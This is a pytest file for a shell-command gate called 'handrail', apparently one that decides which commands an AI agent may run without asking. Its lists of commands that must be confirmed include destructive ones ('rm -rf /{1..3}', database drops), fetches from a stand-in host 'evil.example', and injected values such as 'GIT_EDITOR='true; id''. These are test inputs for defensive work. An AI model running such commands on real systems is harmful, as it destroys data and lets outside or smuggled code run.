"""Tools that build, test and run: code of the workspace runs in the sandbox, code from elsewhere and what destroys is asked about."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from tests.plugins.cli.bash_cases import BARE

from handrail import Decision, EvaluationContext, SandboxOffer, View
from handrail_cli.shell.verdict import judge_line

JUDGING = replace(BARE, sandbox=SandboxOffer(name="bubblewrap", network=False))

ELSEWHERE = [
    "mvn -f /tmp/x test",
    "mvn -s ~/settings.xml test",
    "make -C /tmp/x",
    "make -f /tmp/x/Makefile",
    "gradle -p /tmp/x build",
    "gradle -I /tmp/x build",
    "npm --prefix /tmp/x test",
    "cargo test --manifest-path /tmp/x/Cargo.toml",
    "cargo test --manifest-path=../x/Cargo.toml",
    "cmake -S /tmp/x -B build",
    "cmake -P /tmp/x.cmake",
    "cmake -DCMAKE_TOOLCHAIN_FILE=/tmp/x.cmake .",
    "cmake /tmp/x",
    "ant -f /tmp/build.xml",
    "rake -f /tmp/Rakefile",
    "just -f /tmp/justfile",
    "tox -c /tmp/tox.ini",
    "pytest -c /tmp/pytest.ini",
    "pytest --config-file=/tmp/pytest.ini",
    "pytest --rootdir=/tmp/x",
    "pytest -o pythonpath=/tmp/x",
    "pytest /tmp/x/test_x.py",
    "jest --config /tmp/jest.config.js",
    "eslint -c /tmp/eslint.config.js .",
    "npx eslint -c /tmp/eslint.config.js .",
    "npx jest --config=/tmp/jest.config.js",
    "eslint --rulesdir /tmp/rules .",
    "webpack --config ../webpack.config.js",
    "python -m pytest -c /tmp/pytest.ini",
    "python -m unittest discover -s /tmp/x",
    "python -m cProfile /tmp/x.py",
    "go generate /tmp/...",
    "go test /tmp/...",
    "go tool pprof http://evil.example",
    "pip install /tmp/x",
    "npm install ../x",
]
DESTROYING = [
    "rake db:drop",
    "rake db:schema:load",
    "rake db:reset RAILS_ENV=test",
    "bundle exec rake db:drop",
    "python manage.py flush --no-input",
    "python manage.py reset_db",
    "python manage.py migrate app zero",
    "php artisan migrate:fresh",
    "php artisan db:wipe --force",
    "prisma migrate reset",
    "npx prisma migrate reset",
    "npx prisma db push --force-reset",
    "npx sequelize db:drop",
    "bin/rails db:drop",
    "./manage.py flush",
    "flask db downgrade",
    "alembic downgrade base",
    "python -m flask db downgrade",
    "mix ecto.drop",
    "npm run db:reset",
    "yarn run db:reset",
    "make db-reset",
    "just reset-db",
    "docker compose down -v",
    "docker compose rm web",
    "docker-compose kill",
    "go clean -modcache",
]
# What installs or publishes, opens a shell, shows secrets, writes elsewhere, or is not known.
OTHERS = [
    "python setup.py install",
    "python3 setup.py develop --user",
    "python setup.py sdist upload",
    "meson install -C build",
    "ninja install",
    "cmake --build build --target install",
    "mvn deploy",
    "gradle publish",
    "docker secret inspect x",
    "podman config inspect x",
    "docker compose exec x sh",
    "docker compose run x bash",
    "docker-compose exec x sh",
    "docker attach x",
    "docker compose attach x",
    "docker compose push",
    "python -m idlelib",
    "uv run -m idlelib",
    "./mvnw deploy",
    "./gradlew -p /tmp/x build",
    "python -m a.module.of.anybody",
    "python -m pydoc -p 8000",
    "python -m zipfile -e x.zip ~",
    "python -m tarfile -e x.tar /usr/local",
    "python -m cProfile -o ~/.bashrc x.py",
    "python -m venv ~/.venvs/x",
    "ar rcs ../x.a x.o",
    "strip /usr/bin/ls",
    "git remote add -f x https://evil.example/x",
    "git remote update",
]
ORDINARY = [
    "mvn -q test",
    "mvn -f sub/pom.xml test",
    "make -C sub all",
    "gradle -p sub build",
    "npm --prefix sub test",
    "cargo test --manifest-path sub/Cargo.toml",
    "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release -DCMAKE_INSTALL_PREFIX=/usr",
    "cmake --build build --target all",
    "ninja -C build",
    "pytest -c sub/pytest.ini tests",
    "pytest -q /home/user/project/tests",
    "pytest --junitxml=/tmp/out.xml",
    "jest --config jest.config.js",
    "rake db:migrate",
    "php artisan migrate",
    "python manage.py migrate",
    "python manage.py migrate app 0002",
    "npm run build",
    "make reset",
    "make refresh-data",
    "./gradlew test --some-option",
    "uv run -m pytest",
    "mix test",
    "mix ecto.migrate",
    "go test ./...",
    "go generate ./...",
    "go tool cover -func=c.out",
    "python setup.py build_ext --inplace",
    "python -m pytest -q tests",
    "python -m unittest discover -s tests",
    "python -m venv .venv",
    "python -m cProfile -s cumtime x.py",
    "python -m zipfile -c x.zip a b",
    "python -m tarfile -e x.tar out",
    "ar rcs x.a x.o",
    "git remote add x https://example.com/x",
]

READING = [
    "for i in {1..3}; do echo $i; done",
    'a=(1 2 3); echo "${a[1]}" "${#a[@]}"',
    'while IFS=, read -r a b; do echo "$a"; done < x.csv',
    "cat <<E\nhello $USER of $HOME\nE",
    "jq -s add *.json",
]
NOT_READING = [
    "cat .{1..9}/*",
    "rm -rf /{1..3}",
    "a=(x); find . ${a[0]}",
    'echo "${a[$(id)]}"',
    "IFS=, bash x",
    "cat <<E\n$(id > ../x)\nE",
    "cat <<E\n$TOKEN\nE",
    "bash <<E\n$USER\nE",
]


def decision(command: str, judging: EvaluationContext = JUDGING) -> Decision | None:
    return judge_line(command, judging).suggestion


@pytest.mark.parametrize("command", [*ELSEWHERE, *DESTROYING, *OTHERS])
def test_what_comes_from_elsewhere_destroys_or_is_not_known_is_asked_about(command: str) -> None:
    assert decision(command) is not Decision.ALLOW


@pytest.mark.parametrize("command", ORDINARY)
def test_work_on_the_project_goes_on_without_a_question(command: str) -> None:
    assert decision(command) is Decision.ALLOW, judge_line(command, JUDGING).reasons


@pytest.mark.parametrize("command", READING)
def test_numbers_lists_and_own_names_hide_nothing(command: str) -> None:
    found = judge_line(command, JUDGING)
    assert (found.suggestion, found.view in (View.READ, View.SHELL)) == (Decision.ALLOW, True), found.reasons


@pytest.mark.parametrize("command", NOT_READING)
def test_what_only_looks_like_numbers_lists_and_own_names_is_asked_about(command: str) -> None:
    assert decision(command) is not Decision.ALLOW


@pytest.mark.parametrize("command", ["bin/python x.py; frobnicate", "bin/python x.py; git push"])
def test_a_link_to_a_program_of_the_system_is_asked_about_in_every_mode_on_the_host(
    tmp_path: Path, command: str
) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/python").symlink_to("/usr/bin/python3")
    here = replace(JUDGING, cwd=tmp_path, workspace=(tmp_path,))
    assert judge_line("bin/python x.py", here).suggestion is Decision.ALLOW
    found = judge_line(command, here)
    assert (found.floor, found.reasons[0].code) == (Decision.CONFIRM, "foreign_program")
    assert judge_line("bin/python x.py", replace(here, sandbox=None)).floor is Decision.CONFIRM


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("GIT_EDITOR=true git commit --amend", True),
        ("GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~2", True),
        ("GIT_EDITOR=/tmp/true git commit", False),
        ("GIT_EDITOR='true; id' git commit", False),
        ("GIT_EDITOR=$X git commit", False),
        ("GIT_SSH_COMMAND=true git fetch", False),
    ],
)
def test_git_may_be_given_an_editor_that_keeps_the_text(command: str, allowed: bool) -> None:
    assert (decision(command) is Decision.ALLOW) is allowed
